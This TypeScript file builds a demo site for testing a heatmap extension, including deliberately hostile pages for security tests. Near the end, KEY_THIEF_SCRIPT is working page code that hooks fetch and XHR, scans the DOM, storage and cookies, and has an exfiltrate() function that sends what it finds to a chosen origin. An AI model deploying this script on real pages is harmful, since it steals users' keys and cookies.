// HTML, CSS and script of the demo site. The landing page is rendered from the specs in layout.ts so
// that demoLayout() and what Chromium lays out agree. Scripts and styles are separate files (not
// inline) so the pages keep working under a strict `script-src 'self'; style-src 'self'` CSP.

import {
  CONTAINER_MAX_WIDTH,
  DESKTOP_PAGE_PADDING,
  MOBILE_BREAKPOINT,
  MOBILE_PAGE_PADDING,
  demoSections,
  type BoxSpec,
  type Horizontal,
} from './layout';

export const LONG_PAGE_HEIGHT = 40_000;
/** /tall: taller than the 12,000 px "Full page image" must handle, yet inside the canvas limits at ratio 2. */
export const TALL_PAGE_HEIGHT = 14_000;
/** Buttons on /tall at known document positions (CSS px), most of them far below the first screen. */
export const TALL_PAGE_TARGETS = [
  { id: 'tall-top', x: 80, y: 300, width: 200, height: 60 },
  { id: 'tall-middle', x: 600, y: 6_500, width: 200, height: 60 },
  { id: 'tall-deep', x: 300, y: 12_800, width: 200, height: 60 },
] as const;

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => `&#${char.charCodeAt(0)};`);
}

/** CSS declarations placing a box horizontally; the mirror of resolveHorizontal() in layout.ts. */
export function horizontalCss(horizontal: Horizontal): string {
  switch (horizontal.align) {
    case 'start':
      return `left:${horizontal.offset}px;width:${horizontal.width}px`;
    case 'end':
      return `right:${horizontal.offset}px;width:${horizontal.width}px`;
    case 'center':
      if (horizontal.span !== undefined) {
        return `left:calc((100% - ${horizontal.span}px) / 2 + ${horizontal.shift ?? 0}px);width:${horizontal.width}px`;
      }
      return `width:min(${horizontal.width}px, 100%);left:calc((100% - min(${horizontal.width}px, 100%)) / 2)`;
    case 'fill':
      // An explicit width, because form controls ignore left+right stretching.
      return `left:${horizontal.inset}px;width:calc(100% - ${2 * horizontal.inset}px)`;
    case 'column': {
      const { index, count, gap, inset, width } = horizontal;
      const column = `((100% - ${(count - 1) * gap}px) / ${count})`;
      const inner = `calc(${column} - ${2 * inset}px)`;
      return `left:calc(${column} * ${index} + ${index * gap + inset}px);width:${width === undefined ? inner : `min(${width}px, ${inner})`}`;
    }
  }
}

function boxId(name: string): string {
  return `hl-${name}`;
}

function landingCss(): string {
  const desktop = demoSections(false);
  const mobile = demoSections(true);
  const rules: string[] = [];
  const mobileRules: string[] = [];
  for (const [sections, out] of [
    [desktop, rules],
    [mobile, mobileRules],
  ] as const) {
    for (const section of sections) {
      out.push(`#${section.id}{height:${section.height}px}`);
      for (const box of section.boxes) {
        out.push(`#${boxId(box.name)}{top:${box.top}px;height:${box.height}px;${horizontalCss(box.horizontal)}}`);
      }
    }
  }
  return `${BASE_CSS}
.section{position:relative;margin:0;padding:0}
.container{position:relative;height:100%;margin:0 auto;width:min(${CONTAINER_MAX_WIDTH}px, calc(100% - ${2 * DESKTOP_PAGE_PADDING}px))}
#header{position:sticky;top:0;z-index:10;background:#ffffffee;border-bottom:1px solid #e3e6ee;box-sizing:border-box}
.box{position:absolute;box-sizing:border-box;margin:0;overflow:hidden;white-space:nowrap;text-overflow:ellipsis}
p.box,h1.box{white-space:normal}
#hero p.box{text-align:center}
h1.box{font-size:44px;line-height:54px;text-align:center}
h2.box{font-size:30px;line-height:40px;text-align:center}
h3.box{font-size:20px;line-height:32px}
.card{background:#fff;border:1px solid #e3e6ee;border-radius:12px}
a.box{display:flex;align-items:center;color:#3547d6;text-decoration:none}
button.box{border:0;border-radius:8px;background:#3547d6;color:#fff;font:inherit;font-weight:600;padding:0 12px;cursor:pointer}
button.faq{display:block;background:#fff;color:#1b1f2b;border:1px solid #e3e6ee;text-align:left;padding:12px 20px}
button.faq .answer{display:none;font-weight:400;color:#4b5263}
button.faq[aria-expanded=true] .answer{display:block}
button.faq .question{display:block}
input.box{border:1px solid #c5cad6;border-radius:8px;padding:0 16px;font:inherit}
#hero{background:linear-gradient(#f3f5ff,#fff)}
#footer{background:#1b1f2b;color:#cfd3dd}
#footer a.box{color:#cfd3dd}
${rules.join('\n')}
@media (max-width:${MOBILE_BREAKPOINT - 0.02}px){
.container{width:calc(100% - ${2 * MOBILE_PAGE_PADDING}px)}
h1.box{font-size:32px;line-height:40px;text-align:left}
${mobileRules.join('\n')}
}
`;
}

// Shared by every page. Scrollbars are hidden so that layout width == window.innerWidth.
const BASE_CSS = `html{scrollbar-width:none;scroll-behavior:auto}
html::-webkit-scrollbar{display:none}
body{margin:0;font:16px/1.5 system-ui,-apple-system,"Segoe UI",Roboto,"Liberation Sans",sans-serif;color:#1b1f2b;background:#f7f8fb}`;

function renderBox(box: BoxSpec): string {
  const id = boxId(box.name);
  const text = escapeHtml(box.text);
  const targetAttr = box.role === 'target' ? ` data-target="${box.name}"` : '';
  switch (box.element) {
    case 'a': {
      const scroll = box.scrollTo ? ` href="#${box.scrollTo}" data-scroll-to="${box.scrollTo}"` : ' href="#" data-inert-link';
      return `<a class="box" id="${id}"${targetAttr}${scroll}>${text}</a>`;
    }
    case 'button':
      if (box.detail !== undefined) {
        return `<button type="button" class="box faq" id="${id}"${targetAttr} aria-expanded="false"><span class="question">${text}</span><span class="answer">${escapeHtml(box.detail)}</span></button>`;
      }
      return `<button type="button" class="box" id="${id}"${targetAttr}>${text}</button>`;
    case 'input':
      return `<input class="box" id="${id}"${targetAttr} type="email" name="email" placeholder="${text}" autocomplete="off">`;
    case 'div':
      return `<div class="box${box.role === 'card' ? ' card' : ''}" id="${id}"></div>`;
    default:
      return `<${box.element} class="box" id="${id}">${text}</${box.element}>`;
  }
}

export interface PageOptions {
  /** Extra tags for <head>, e.g. the posthog-js loader. */
  headExtra?: string;
}

function documentShell(title: string, stylesheet: string, body: string, options: PageOptions): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${escapeHtml(title)}</title>
<link rel="stylesheet" href="${stylesheet}">
${options.headExtra ?? ''}
</head>
<body>
${body}
<script src="/assets/site.js"></script>
</body>
</html>
`;
}

export function landingPageHtml(options: PageOptions = {}): string {
  // Desktop and mobile share one DOM: the same boxes, placed by different CSS rules.
  const sections = demoSections(false).map((section) => {
    const tag = section.id === 'header' ? 'header' : section.id === 'footer' ? 'footer' : 'section';
    return `<${tag} class="section" id="${section.id}"><div class="container">
${section.boxes.map(renderBox).join('\n')}
</div></${tag}>`;
  });
  return documentShell('Acme Analytics: know what your visitors do', '/assets/landing.css', sections.join('\n'), options);
}

export function landingStylesheet(): string {
  return landingCss();
}

const SIMPLE_CSS = `${BASE_CSS}
.page{max-width:960px;margin:0 auto;padding:24px}
.block{box-sizing:border-box;border:1px solid #e3e6ee;border-radius:12px;background:#fff;padding:16px;margin:0 0 16px;overflow:hidden}
button{font:inherit;padding:8px 16px;border:0;border-radius:8px;background:#3547d6;color:#fff;cursor:pointer}
nav button{margin-right:8px}
.marker{position:absolute;left:0;right:0;height:40px;border-top:1px dashed #c5cad6;padding-left:16px;color:#4b5263}
`;

export function simpleStylesheet(): string {
  return SIMPLE_CSS;
}

/** A short product-reviews page, for URL-pattern work such as /product/*\/reviews. */
export function reviewsPageHtml(productId: string, options: PageOptions = {}): string {
  const reviews = [
    ['Dana', 'Works as described, setup took five minutes.'],
    ['Lee', 'Good value. The dashboard could be faster.'],
    ['Sam', 'Support answered the same day.'],
  ];
  const body = `<main class="page">
<h1>Product ${escapeHtml(productId)}: reviews</h1>
${reviews.map(([name, text], index) => `<article class="block" style="height:160px" id="review-${index + 1}"><h2>${name}</h2><p>${text}</p><button type="button" data-target="helpful${index + 1}">Helpful</button></article>`).join('\n')}
<button type="button" id="write-review" data-target="writeReview">Write a review</button>
</main>`;
  return documentShell(`Reviews of product ${productId}`, '/assets/simple.css', body, options);
}

/** A tiny single-page app: its buttons change the URL with history.pushState, never reloading. */
export function spaPageHtml(options: PageOptions = {}): string {
  const body = `<main class="page" id="spa">
<nav>
<button type="button" data-spa-route="/spa">Home</button><button type="button" data-spa-route="/spa/reports">Reports</button><button type="button" data-spa-route="/spa/settings">Settings</button>
</nav>
<section class="block" style="height:400px"><h1 id="spa-title">Home</h1><p id="spa-body">Choose a view above.</p><button type="button" id="spa-action">Do the thing</button></section>
</main>`;
  return documentShell('SPA demo', '/assets/simple.css', body, options);
}

/** A page 40,000 px tall with a marker every 1,000 px and a button near the bottom. */
export function longPageHtml(options: PageOptions = {}): string {
  const markers: string[] = [];
  for (let y = 0; y < LONG_PAGE_HEIGHT; y += 1000) markers.push(`<div class="marker" style="top:${y}px">y = ${y} px</div>`);
  const body = `<main style="position:relative;height:${LONG_PAGE_HEIGHT}px">
${markers.join('\n')}
<button type="button" id="bottom-button" style="position:absolute;top:${LONG_PAGE_HEIGHT - 200}px;left:40px;width:200px;height:48px">Bottom button</button>
</main>`;
  return documentShell('A very long page', '/assets/simple.css', body, options);
}

/** Where /corner's main action sits: its right edge `right` px from the window's, at every width (document px). */
export const CORNER_ACTION = { top: 12, right: 16, width: 136, height: 40 } as const;

/**
 * A page whose main action ("Get started") sits in the window's top-right corner at every width, where
 * a panel docked top-right goes (issue 20 item 13: the opened panel must not sit on it). White, so heat
 * painted on it shows in pixels.
 */
export function cornerPageHtml(options: PageOptions = {}): string {
  const { top, right, width, height } = CORNER_ACTION;
  const markers: string[] = [];
  for (let y = 1000; y < 3000; y += 1000) markers.push(`<div class="marker" style="top:${y}px">y = ${y} px</div>`);
  const body = `<main style="position:relative;height:3000px">
<button type="button" id="corner-action" style="position:absolute;top:${top}px;right:${right}px;width:${width}px;height:${height}px;background:#fff;color:#1b1f2b;border:1px solid #c5cad6">Get started</button>
${markers.join('\n')}
</main>`;
  return documentShell('A page with its main action in the corner', '/assets/simple.css', body, options);
}

/** A page 14,000 px tall with a marker every 1,000 px and buttons at TALL_PAGE_TARGETS. */
export function tallPageHtml(options: PageOptions = {}): string {
  const markers: string[] = [];
  for (let y = 0; y < TALL_PAGE_HEIGHT; y += 1000) markers.push(`<div class="marker" style="top:${y}px">y = ${y} px</div>`);
  const buttons = TALL_PAGE_TARGETS.map(
    (target) => `<button type="button" id="${target.id}" style="position:absolute;top:${target.y}px;left:${target.x}px;width:${target.width}px;height:${target.height}px;background:#fff;color:#1b1f2b;border:1px solid #c5cad6">${target.id}</button>`,
  );
  const body = `<main style="position:relative;height:${TALL_PAGE_HEIGHT}px">
${markers.join('\n')}
${buttons.join('\n')}
</main>`;
  return documentShell('A tall page', '/assets/simple.css', body, options);
}

/** Height of the scrolling pane's content on /app. */
export const APP_PANE_CONTENT_HEIGHT = 3000;
/** Height of /app's fixed top bar; the pane fills the rest of the window. */
export const APP_TOP_BAR_HEIGHT = 60;

/**
 * An app-like page whose window never scrolls: a fixed top bar and a main pane that scrolls inside
 * itself (overflow: auto), with a button 2,000 px down the pane's content.
 */
export function appPageHtml(options: PageOptions = {}): string {
  const body = `<div style="position:fixed;inset:0;display:flex;flex-direction:column">
<div style="height:${APP_TOP_BAR_HEIGHT}px;flex:none;background:#1d2333;color:#fff;padding:16px 24px;box-sizing:border-box">App shell</div>
<main id="pane" style="flex:1;overflow:auto;position:relative">
<div style="position:relative;height:${APP_PANE_CONTENT_HEIGHT}px">
<button type="button" id="deep-button" style="position:absolute;top:2000px;left:100px;width:200px;height:48px">Deep button</button>
</div>
</main>
</div>`;
  return documentShell('App with a scrolling pane', '/assets/simple.css', body, options);
}

export function notFoundHtml(): string {
  return documentShell('Not found', '/assets/simple.css', '<main class="page"><h1>Not found</h1></main>', {});
}

/** Behaviour shared by all pages: in-page scrolling links, the FAQ accordion, the SPA router. */
export const SITE_SCRIPT = `(() => {
  'use strict';
  document.addEventListener('click', (event) => {
    const target = event.target instanceof Element ? event.target : null;
    if (!target) return;
    const scrollLink = target.closest('[data-scroll-to]');
    if (scrollLink) {
      // Scroll without touching location.hash, so the URL the data is filed under stays the same.
      event.preventDefault();
      const section = document.getElementById(scrollLink.getAttribute('data-scroll-to'));
      const header = document.getElementById('header');
      if (section) window.scrollTo(0, section.offsetTop - (header ? header.offsetHeight : 0));
      return;
    }
    if (target.closest('[data-inert-link]')) {
      event.preventDefault();
      return;
    }
    const faq = target.closest('button.faq');
    if (faq) {
      faq.setAttribute('aria-expanded', faq.getAttribute('aria-expanded') === 'true' ? 'false' : 'true');
      return;
    }
    const submit = target.closest('#hl-signupSubmit');
    if (submit) {
      submit.textContent = 'Thanks!';
      return;
    }
    const route = target.closest('[data-spa-route]');
    if (route) {
      const path = route.getAttribute('data-spa-route');
      history.pushState({ path }, '', path);
      renderSpa();
    }
  });
  function renderSpa() {
    const title = document.getElementById('spa-title');
    if (!title) return;
    const view = location.pathname.replace(/^\\/spa\\/?/, '') || 'home';
    title.textContent = view.charAt(0).toUpperCase() + view.slice(1);
    document.getElementById('spa-body').textContent = 'You are on the ' + view + ' view.';
  }
  window.addEventListener('popstate', renderSpa);
  renderSpa();
})();
`;

export interface PostHogSnippetConfig {
  apiHost: string;
  token: string;
}

/**
 * Initialises posthog-js the way shared/posthog-api.md describes for tests: heatmaps flushed fast,
 * headless Chromium not filtered as a bot, a new visitor per load, no flags/recording/compression.
 */
export function postHogInitScript(config: PostHogSnippetConfig): string {
  const options = {
    api_host: config.apiHost,
    capture_heatmaps: { flush_interval_milliseconds: 300 },
    opt_out_useragent_filter: true,
    advanced_disable_flags: true,
    disable_session_recording: true,
    persistence: 'memory',
    disable_compression: true,
    autocapture: true,
  };
  return `(() => {
  if (!window.posthog || typeof window.posthog.init !== 'function') {
    console.warn('[demo site] posthog-js did not load');
    return;
  }
  window.posthog.init(${JSON.stringify(config.token)}, ${JSON.stringify(options)});
})();
`;
}

// ---------------------------------------------------------------------------------------------
// Hostile and strict pages: the landing page (so the sample data's hot spots apply) plus one hostile
// trait each, for the security and hygiene tests. Each trait is a separate file, never inline.

/** Path → the extra <head> tags and response headers that make the landing page hostile. */
export const hostilePages: Readonly<Record<string, { headExtra: string; headers?: Record<string, string> }>> = {
  '/hostile/key-thief': { headExtra: '<script src="/assets/key-thief.js"></script>' },
  '/hostile/css': { headExtra: '<link rel="stylesheet" href="/assets/hostile.css">' },
  '/hostile/transform': { headExtra: '<link rel="stylesheet" href="/assets/transform.css">' },
  '/hostile/replace-body': { headExtra: '<script src="/assets/replace-body.js"></script>' },
  // Blocks everything but the page's own files: no inline code, no blob: worker, no connections.
  '/csp-strict': { headExtra: '', headers: { 'Content-Security-Policy': "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'" } },
};

export const HOSTILE_CSS = `* { all: unset !important; }
canvas { display: none !important; }
html::before { content: "hostile"; }
`;

/** A transformed and zoomed body: fixed descendants of body would be positioned against it. */
export const TRANSFORM_CSS = `body { transform: translate(13px, 7px) scale(0.9) rotate(0.4deg); transform-origin: 0 0; zoom: 1.1; filter: contrast(1.01); }
`;

/** Replaces document.body with a fresh copy, as some frameworks do on every render. */
export const REPLACE_BODY_SCRIPT = `(() => {
  'use strict';
  window.replaceBody = () => {
    const fresh = document.createElement('body');
    fresh.innerHTML = document.body.innerHTML;
    document.body = fresh;
    return document.body === fresh;
  };
})();
`;

/**
 * A page script that tries every way a page has to find Heatlens' API key: it wraps fetch and
 * XMLHttpRequest, listens to postMessage and DOM events, watches every mutation, and scans the DOM
 * (open shadow roots included), window properties, web storage, cookies and performance entries.
 * `window.__thief.report()` returns everything it collected as one string; `__thief.exfiltrate(origin)`
 * sends it there, as a real thief would; `__thief.askExtension(id)` tries to message an extension.
 * (Nothing is read from the URL: Heatlens asks PostHog for the page's exact URL, hash included.)
 */
export const KEY_THIEF_SCRIPT = `(() => {
  'use strict';
  const seen = new Set();
  const note = (where, value) => {
    if (seen.size > 50000) return;
    let text;
    try { text = typeof value === 'string' ? value : JSON.stringify(value); } catch (error) { text = String(value); }
    seen.add(where + ': ' + String(text).slice(0, 4000));
  };
  const realFetch = window.fetch;
  window.fetch = function (input, init) {
    note('fetch', [String(input && input.url ? input.url : input), init && init.headers, init && typeof init.body === 'string' ? init.body : null]);
    return realFetch.apply(this, arguments);
  };
  const xhr = XMLHttpRequest.prototype;
  const open = xhr.open, setRequestHeader = xhr.setRequestHeader, send = xhr.send;
  xhr.open = function (method, url) { note('xhr.open', [method, String(url)]); return open.apply(this, arguments); };
  xhr.setRequestHeader = function (name, value) { note('xhr.header', [name, value]); return setRequestHeader.apply(this, arguments); };
  xhr.send = function (body) { note('xhr.send', body == null ? '' : String(body)); return send.apply(this, arguments); };
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) { note('attachShadow', [this.nodeName, init]); return attachShadow.call(this, Object.assign({}, init, { mode: 'open' })); };
  const describeEvent = (event) => {
    let path = [];
    try { path = event.composedPath().map((node) => node.nodeName || String(node)); } catch (error) { /* ignore */ }
    return [event.type, event.detail, event.data, event.key, event.target && event.target.nodeName, path];
  };
  window.addEventListener('message', (event) => note('message', [event.origin, event.data]), true);
  const eventTypes = ['click', 'pointerdown', 'pointerup', 'keydown', 'keyup', 'input', 'change', 'focus', 'blur', 'focusin', 'scroll', 'resize',
    'hashchange', 'popstate', 'load', 'DOMContentLoaded', 'visibilitychange', 'securitypolicyviolation', 'error', 'storage', 'toggle',
    'heatlens', 'heatlens:load', 'heatlens:key', 'posthog'];
  for (const type of eventTypes) {
    window.addEventListener(type, (event) => note('event', describeEvent(event)), true);
    document.addEventListener(type, (event) => note('event', describeEvent(event)), true);
  }
  const dispatchEvent = EventTarget.prototype.dispatchEvent;
  EventTarget.prototype.dispatchEvent = function (event) { note('dispatch', describeEvent(event)); return dispatchEvent.call(this, event); };
  const watch = (root) => new MutationObserver((records) => {
    for (const record of records) {
      const target = record.target;
      note('mutation', [record.type, target.nodeName, record.attributeName, record.attributeName && target.getAttribute ? target.getAttribute(record.attributeName) : null, record.type === 'characterData' ? target.data : null]);
      for (const node of record.addedNodes) {
        note('added', node.outerHTML || node.textContent || node.nodeName);
        if (node.shadowRoot) watch(node.shadowRoot);
      }
    }
  }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
  watch(document);
  const scanDom = (root, out) => {
    out.push(root.innerHTML !== undefined ? root.innerHTML : '');
    for (const element of root.querySelectorAll('*')) {
      for (const attribute of element.attributes) out.push(attribute.name + '=' + attribute.value);
      if (element.shadowRoot) { out.push('#shadow-root ' + element.nodeName); scanDom(element.shadowRoot, out); }
      else if (element.localName.includes('-') || element.hasAttribute('data-heatlens-overlay')) out.push('#closed-or-none ' + element.nodeName + (element.hasAttribute('data-heatlens-overlay') ? '[data-heatlens-overlay]' : ''));
    }
  };
  const scan = () => {
    const out = [document.documentElement.outerHTML];
    scanDom(document, out);
    for (const name of Object.getOwnPropertyNames(window)) {
      if (name === '__thief') continue;
      try {
        const value = window[name];
        if (value === null || value === undefined) continue;
        if (typeof value !== 'function' && typeof value !== 'object') out.push('window.' + name + '=' + String(value));
        else if (typeof value === 'object' && !(value instanceof Node) && value !== window && Object.getPrototypeOf(value) === Object.prototype) out.push('window.' + name + '=' + JSON.stringify(value));
      } catch (error) { /* cross-origin or throwing getter */ }
    }
    for (const storage of [localStorage, sessionStorage]) for (let i = 0; i < storage.length; i++) out.push(storage.key(i) + '=' + storage.getItem(storage.key(i)));
    out.push('cookie=' + document.cookie, 'title=' + document.title, 'url=' + location.href);
    for (const entry of performance.getEntries()) out.push('perf ' + entry.name);
    out.push('chrome.runtime=' + typeof (window.chrome && window.chrome.runtime));
    return out.join('\\n');
  };
  setInterval(() => note('scan', scan()), 500);
  window.__thief = {
    report: () => [...seen, 'scan: ' + scan()].join('\\n'),
    askExtension: (extensionId) => new Promise((resolve) => {
      const runtime = window.chrome && window.chrome.runtime;
      if (!runtime || !runtime.sendMessage) return resolve('no runtime');
      try {
        runtime.sendMessage(extensionId, { channel: 'heatlens', type: 'settings.get', payload: {} }, (answer) => { note('ext-answer', answer); resolve(JSON.stringify(answer)); });
      } catch (error) { note('ext-refused', String(error)); resolve('refused'); }
    }),
    exfiltrate: (to) => {
      const loot = window.__thief.report();
      return realFetch(to + '/api/projects/1/heatmaps/?stolen=' + encodeURIComponent(loot.slice(0, 1500)), { credentials: 'include' }).then((response) => response.status, () => -1);
    },
  };
})();
`;
